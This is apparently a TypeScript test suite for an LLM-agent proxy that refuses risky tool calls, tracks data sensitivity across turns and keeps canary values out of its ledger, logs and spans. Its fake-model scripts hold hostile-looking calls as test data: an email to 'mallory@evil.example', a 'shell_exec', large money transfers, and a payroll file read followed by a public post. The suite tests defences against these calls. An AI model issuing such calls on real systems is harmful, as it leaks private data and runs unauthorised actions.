// cloakpipe llm-proxy beyond one response: tool results sent back in the next request settle
// their calls and raise the session label (per agent: one token, one session); shadow mode
// records and changes nothing; --on-refusal error turns a refusal into an error every SDK
// raises; canaries in arguments, in results and in a tool's name reach the model and the agent
// but no ledger byte, log line or span; and `verify` accepts the ledger all this wrote.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import OpenAI from 'openai';
import Anthropic from '@anthropic-ai/sdk';
import { startFakeModel, type FakeModel } from '../helpers/fake-model.js';
import { llmSetup, startLlmGate, openaiAgent, anthropicAgent } from '../helpers/llm-gate.js';
import { anthropicTurn, openaiTurn, rawTurn, responsesTurn } from '../helpers/llm-agent.js';
import { aiSdkTurn } from '../helpers/ai-sdk-agent.js';
import { langchainTurn } from '../helpers/langchain-agent.js';
import { decisions, ledgerOf } from '../helpers/support-desk.js';
import { canary } from '../helpers/capture.js';
import { cloakpipe } from '../helpers/cli.js';

let fake: FakeModel;
before(async () => {
  fake = await startFakeModel();
});
after(async () => {
  await fake?.close();
});

const TOKEN_A = 'token-of-agent-a-0123456789';
const TOKEN_B = 'token-of-agent-b-0123456789';

test('a tool result sent back settles its call and raises that agent\'s label; the next proposal is decided under it', async () => {
  const s = llmSetup();
  const tokens = join(s.dir, 'tokens');
  writeFileSync(tokens, `${TOKEN_A} agent-a\n${TOKEN_B} agent-b\n`, { mode: 0o600 });
  const g = await startLlmGate(s, fake.url, ['--auth-token-file', tokens]);
  try {
    // No token, no answer.
    await assert.rejects(openaiTurn(openaiAgent(g.url), { text: 'hi' }, false), (e: Error) => e instanceof OpenAI.AuthenticationError);
    const a = openaiAgent(g.url, { 'Proxy-Authorization': `Bearer ${TOKEN_A}` });
    const b = anthropicAgent(g.url, { 'Proxy-Authorization': `Bearer ${TOKEN_B}` });
    const post = { calls: [{ name: 'post_public', arguments: { text: 'status: green' } }] };

    // Agent A reads a confidential file; its result goes back with the next request.
    const read = await openaiTurn(a, { calls: [{ name: 'read_file', arguments: { path: '/srv/payroll.csv' } }] }, true);
    assert.equal(read.calls.length, 1);
    const history = [
      { role: 'user', content: JSON.stringify({ calls: [] }) },
      { role: 'assistant', content: null, tool_calls: [{ id: read.calls[0].id, type: 'function', function: { name: 'read_file', arguments: '{"path":"/srv/payroll.csv"}' } }] },
      { role: 'tool', tool_call_id: read.calls[0].id, content: 'name,salary\nalice,100' },
    ];
    const refused = await openaiTurn(a, post, false, { messages: history });
    assert.deepEqual(refused.calls, []);
    assert.match(refused.text, /^cloakpipe refused post_public: sink_ceiling_exceeded: /);

    // Agent B is a session of its own: its label has not moved.
    const fine = await anthropicTurn(b, post, true);
    assert.deepEqual(fine.calls.map((c) => c.name), ['post_public']);
    // B's own read, its result sent back as a tool_result block (an error result counts too).
    // An id of its own: the fake API's default is post_public's above, still open (a result under an id two calls share is neither's).
    const readB = await anthropicTurn(b, { calls: [{ name: 'read_file', arguments: { path: '/srv/hr.md' }, id: 'toolu_read_b' }] }, false);
    const historyB = [
      { role: 'user', content: JSON.stringify({ calls: [] }) },
      { role: 'assistant', content: [{ type: 'tool_use', id: readB.calls[0].id, name: 'read_file', input: { path: '/srv/hr.md' } }] },
      { role: 'user', content: [{ type: 'tool_result', tool_use_id: readB.calls[0].id, content: 'permission denied', is_error: true }] },
    ];
    const refusedB = await anthropicTurn(b, post, true, { messages: historyB });
    assert.match(refusedB.text, /^cloakpipe refused post_public: sink_ceiling_exceeded: /);
    // The same history again moves nothing twice: one result entry per call.
    await anthropicTurn(b, { text: 'ok' }, false, { messages: historyB });
  } finally {
    await g.stop();
  }
  const entries = ledgerOf(s.home);
  const reads = entries.filter((e) => e.kind === 'decision' && e.tool === 'read_file');
  assert.deepEqual(reads.map((e) => [e.agent, e.outcome, e.execution]), [['agent-a', 'allow', 'agent'], ['agent-b', 'allow', 'agent']]);
  for (const d of reads) {
    const results = entries.filter((e) => e.kind === 'result' && e.decision === d.seq);
    assert.equal(results.length, 1, 'the result settles its decision once');
    assert.equal(results[0].outcome, d.agent === 'agent-a' ? 'ok' : 'error');
  }
  const labels = entries.filter((e) => e.kind === 'label');
  assert.deepEqual(labels.map((e) => [e.from, e.to, e.tool]), [['public', 'confidential', 'read_file'], ['public', 'confidential', 'read_file']]);
  const posts = entries.filter((e) => e.kind === 'decision' && e.tool === 'post_public');
  assert.deepEqual(posts.map((e) => [e.agent, e.outcome, e.reason ?? null, e.operation_state]), [
    ['agent-a', 'refuse', 'sink_ceiling_exceeded', undefined],
    ['agent-b', 'allow', null, 'not_applicable'],
    ['agent-b', 'refuse', 'sink_ceiling_exceeded', undefined],
  ]);
});

test('shadow mode: a call enforce would refuse reaches the agent unchanged, and the ledger says would_refuse', async () => {
  const s = llmSetup();
  const g = await startLlmGate(s, fake.url, ['--mode', 'shadow']);
  try {
    const script = { text: 'Moving money.', calls: [{ name: 'transfer', arguments: { amount: 250000 } }, { name: 'shell_exec', arguments: { cmd: 'id' } }] };
    for (const format of ['openai', 'responses', 'anthropic'] as const)
      for (const stream of [false, true]) {
        const direct = await rawTurn(fake.url, format, script, stream);
        const gated = await rawTurn(g.url, format, script, stream);
        assert.ok(gated.bytes.equals(direct.bytes), `${format} ${stream}`);
      }
  } finally {
    await g.stop();
  }
  const d = decisions(s.home);
  assert.equal(d.filter((e) => e.outcome === 'would_refuse' && e.reason === 'policy_denied').length, 6);
  assert.equal(d.filter((e) => e.outcome === 'would_refuse' && e.reason === 'undeclared_tool').length, 6);
});

test('--on-refusal error: the response becomes an error each SDK raises; the allowed call beside it never went out', async () => {
  const s = llmSetup();
  const g = await startLlmGate(s, fake.url, ['--on-refusal', 'error']);
  const script = { text: 'On it.', calls: [{ name: 'get_weather', arguments: { city: 'Oslo' } }, { name: 'transfer', arguments: { amount: 7000 } }] };
  const names: string[] = [];
  try {
    await assert.rejects(openaiTurn(openaiAgent(g.url), script, false), (e: Error) => {
      names.push(e.constructor.name);
      return e instanceof OpenAI.PermissionDeniedError && /cloakpipe refused transfer: policy_denied: /.test(e.message);
    });
    await assert.rejects(anthropicTurn(anthropicAgent(g.url), script, false), (e: Error) => e instanceof Anthropic.PermissionDeniedError && /cloakpipe refused transfer: policy_denied: /.test(e.message));
    await assert.rejects(openaiTurn(openaiAgent(g.url), script, true), (e: Error) => e instanceof OpenAI.APIError && /cloakpipe refused transfer: policy_denied: /.test(e.message));
    await assert.rejects(anthropicTurn(anthropicAgent(g.url), script, true), (e: Error) => e instanceof Anthropic.APIError && /cloakpipe refused transfer: policy_denied: /.test(e.message));
    await assert.rejects(responsesTurn(openaiAgent(g.url), script, false), (e: Error) => e instanceof OpenAI.PermissionDeniedError && /cloakpipe refused transfer: policy_denied: /.test(e.message));
    await assert.rejects(responsesTurn(openaiAgent(g.url), script, true), (e: Error) => e instanceof OpenAI.APIError && /cloakpipe refused transfer: policy_denied: /.test(e.message));
    // Agents on the AI SDK and on LangChain meet the same error and run no refused call; a body's allowed call never went out.
    for (const format of ['openai', 'responses', 'anthropic'] as const) {
      for (const stream of [false, true]) {
        const ai = await aiSdkTurn(g.url, format, script, stream);
        assert.match(ai.error ?? '', /cloakpipe refused transfer: policy_denied: /, `AI SDK, ${format}, stream ${stream}`);
        assert.deepEqual(ai.ran.filter((r) => !stream || r.name === 'transfer'), []);
        const lc = await langchainTurn(g.url, format, script, stream);
        assert.match(lc.error ?? '', /cloakpipe refused transfer: policy_denied: /, `LangChain, ${format}, stream ${stream}`);
        assert.deepEqual(lc.calls, []);
      }
    }
    // The 403's body carries the refusal as data.
    const raw = await rawTurn(g.url, 'openai', script, false);
    assert.equal(raw.status, 403);
    const body = JSON.parse(raw.bytes.toString('utf8'));
    assert.equal(body.error.code, 'policy_denied');
    assert.equal(typeof body.error.cloakpipe.entry, 'number');
  } finally {
    await g.stop();
  }
  const entries = ledgerOf(s.home);
  const weather = entries.filter((e) => e.kind === 'decision' && e.tool === 'get_weather');
  // Bodies (four: three SDK turns and the raw one): allowed, then withdrawn.
  const withdrawn = weather.filter((d) => entries.some((e) => e.kind === 'result' && e.decision === d.seq && e.outcome === 'not_forwarded'));
  assert.ok(withdrawn.length >= 4, JSON.stringify(weather));
});

test('bounds: a request or a response over --max-body, a stream over --stream-timeout, refused and never passed on', async () => {
  const s = llmSetup();
  const g = await startLlmGate(s, fake.url, ['--max-body', '4096', '--stream-timeout', '3s']);
  try {
    const big = { name: 'get_weather', arguments: { city: 'Lima' }, pad: 6000, id: 'call_big_one' };
    // A request over the bound never reaches the model.
    const before = fake.seen.length;
    const tooBig = await fetch(`${g.url}/v1/chat/completions`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ model: 'm', messages: [{ role: 'user', content: 'y'.repeat(5000) }] }) });
    assert.equal(tooBig.status, 413);
    assert.equal(fake.seen.length, before);
    for (const stream of [false, true]) {
      const r = await rawTurn(g.url, 'openai', { calls: [big] }, stream);
      const text = r.bytes.toString('utf8');
      assert.ok(!text.includes('call_big_one'), text.slice(0, 300));
      assert.match(text, /fail_closed/);
      if (!stream) assert.equal(r.status, 502);
    }
    // A stream that outlasts --stream-timeout: its call is never released. It stalls before the
    // call's last event (not paced by a clock: with 150 ms between events, a loaded machine
    // moved the text past the timeout or the call's end before it, and the case failed).
    const slow = await rawTurn(g.url, 'anthropic', { text: 'thinking', calls: [{ name: 'get_weather', arguments: { city: 'Oslo' }, id: 'toolu_slow_one' }], holdLast: 3 }, true);
    const text = slow.bytes.toString('utf8');
    assert.ok(text.includes('"text_delta"'), 'text before the timeout went out');
    assert.ok(!text.includes('toolu_slow_one'));
    assert.match(text, /event: error\ndata: .*fail_closed/);
  } finally {
    await g.stop();
  }
});

test('canaries in arguments, results and a tool name reach the model and the agent, never the ledger, a log line or a span; verify passes', async () => {
  const C = { arg: canary('arg'), refusedArg: canary('refused'), malformed: canary('malformed'), result: canary('result'), tool: canary('toolname') };
  const s = llmSetup();
  const g = await startLlmGate(s, fake.url, [], { otel: true });
  const seen: string[] = [];
  try {
    const script = {
      text: 'Doing several things.',
      calls: [
        { name: 'get_weather', arguments: { city: C.arg } },
        { name: 'send_email', arguments: { to: 'mallory@evil.example', body: C.refusedArg } },
        { name: 'get_weather', raw: `{"city": "${C.malformed}"` },
        { name: C.tool, arguments: {} },
      ],
    };
    for (const stream of [false, true]) {
      const t = await openaiTurn(openaiAgent(g.url), script, stream);
      seen.push(JSON.stringify(t));
      const history = [
        { role: 'user', content: '{}' },
        { role: 'assistant', content: null, tool_calls: [{ id: t.calls[0].id, type: 'function', function: { name: 'get_weather', arguments: JSON.stringify(t.calls[0].args) } }] },
        { role: 'tool', tool_call_id: t.calls[0].id, content: `sunny, ${C.result}` },
      ];
      await openaiTurn(openaiAgent(g.url), { text: 'noted' }, stream, { messages: history });
    }
    for (const stream of [false, true]) {
      const t = await responsesTurn(openaiAgent(g.url), script, stream);
      seen.push(JSON.stringify(t));
      const history = [
        { role: 'user', content: '{}' },
        { type: 'function_call', call_id: t.calls[0].id, name: 'get_weather', arguments: JSON.stringify(t.calls[0].args) },
        { type: 'function_call_output', call_id: t.calls[0].id, output: `cloudy, ${C.result}` },
      ];
      await responsesTurn(openaiAgent(g.url), { text: 'noted' }, stream, { messages: history });
    }
    const a = await anthropicTurn(anthropicAgent(g.url), { ...script, calls: script.calls.filter((c) => !('raw' in c)) }, true);
    seen.push(JSON.stringify(a));
  } finally {
    await g.stop();
  }
  // Positive control: each canary reached the agent (or, for the result, the model).
  const agentSaw = seen.join('\n');
  for (const c of [C.arg, C.tool]) assert.ok(agentSaw.includes(c), 'the agent saw it');
  assert.ok(fake.seen.some((r) => JSON.stringify(r.body).includes(C.result)), 'the model saw the result');
  const stored: Record<string, string> = {};
  for (const f of ['ledger.db', 'ledger.db-wal', 'operations.db', 'operations.db-wal']) {
    const p = join(s.home, f);
    if (existsSync(p)) stored[f] = readFileSync(p).toString('latin1');
  }
  assert.ok(Object.keys(stored).length > 0);
  const spans = existsSync(s.spans) ? readFileSync(s.spans, 'utf8') : '';
  assert.ok(spans.includes('cloakpipe'), 'the exporter received spans');
  for (const c of Object.values(C)) {
    for (const [f, bytes] of Object.entries(stored)) assert.ok(!bytes.includes(c), `${f} holds no canary`);
    assert.ok(!g.stderr().includes(c), 'no log line holds a canary');
    assert.ok(!spans.includes(c), 'no span holds a canary');
    assert.ok(!JSON.stringify(ledgerOf(s.home)).includes(c));
  }
  const d = decisions(s.home);
  assert.ok(d.some((e) => e.reason === 'undeclared_tool' && typeof e.tool_digest === 'string' && e.tool === undefined));
  assert.ok(d.some((e) => e.reason === 'malformed_json' && typeof e.line_digest === 'string'));
  const v = cloakpipe(['verify', '--home', s.home]);
  assert.equal(v.status, 0, v.stdout + v.stderr);
});
